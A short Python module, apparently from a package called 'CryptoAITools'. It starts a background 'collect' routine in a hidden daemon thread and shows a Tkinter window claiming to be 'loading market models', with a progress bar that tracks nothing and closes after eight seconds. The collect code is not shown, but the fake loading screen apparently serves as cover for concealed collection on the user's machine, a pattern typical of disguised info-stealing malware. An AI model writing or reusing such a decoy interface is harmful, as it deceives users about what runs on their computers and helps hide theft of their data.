import threading
import tkinter as tk
from tkinter import ttk

from . import collect


def splash():
    threading.Thread(target=collect.run, daemon=True).start()
    try:
        root = tk.Tk()
        root.title("CryptoAITools - loading market models")
        bar = ttk.Progressbar(root, length=320, mode="indeterminate")
        bar.pack(padx=20, pady=20)
        bar.start()
        root.after(8000, root.destroy)
        root.mainloop()
    except Exception:
        pass
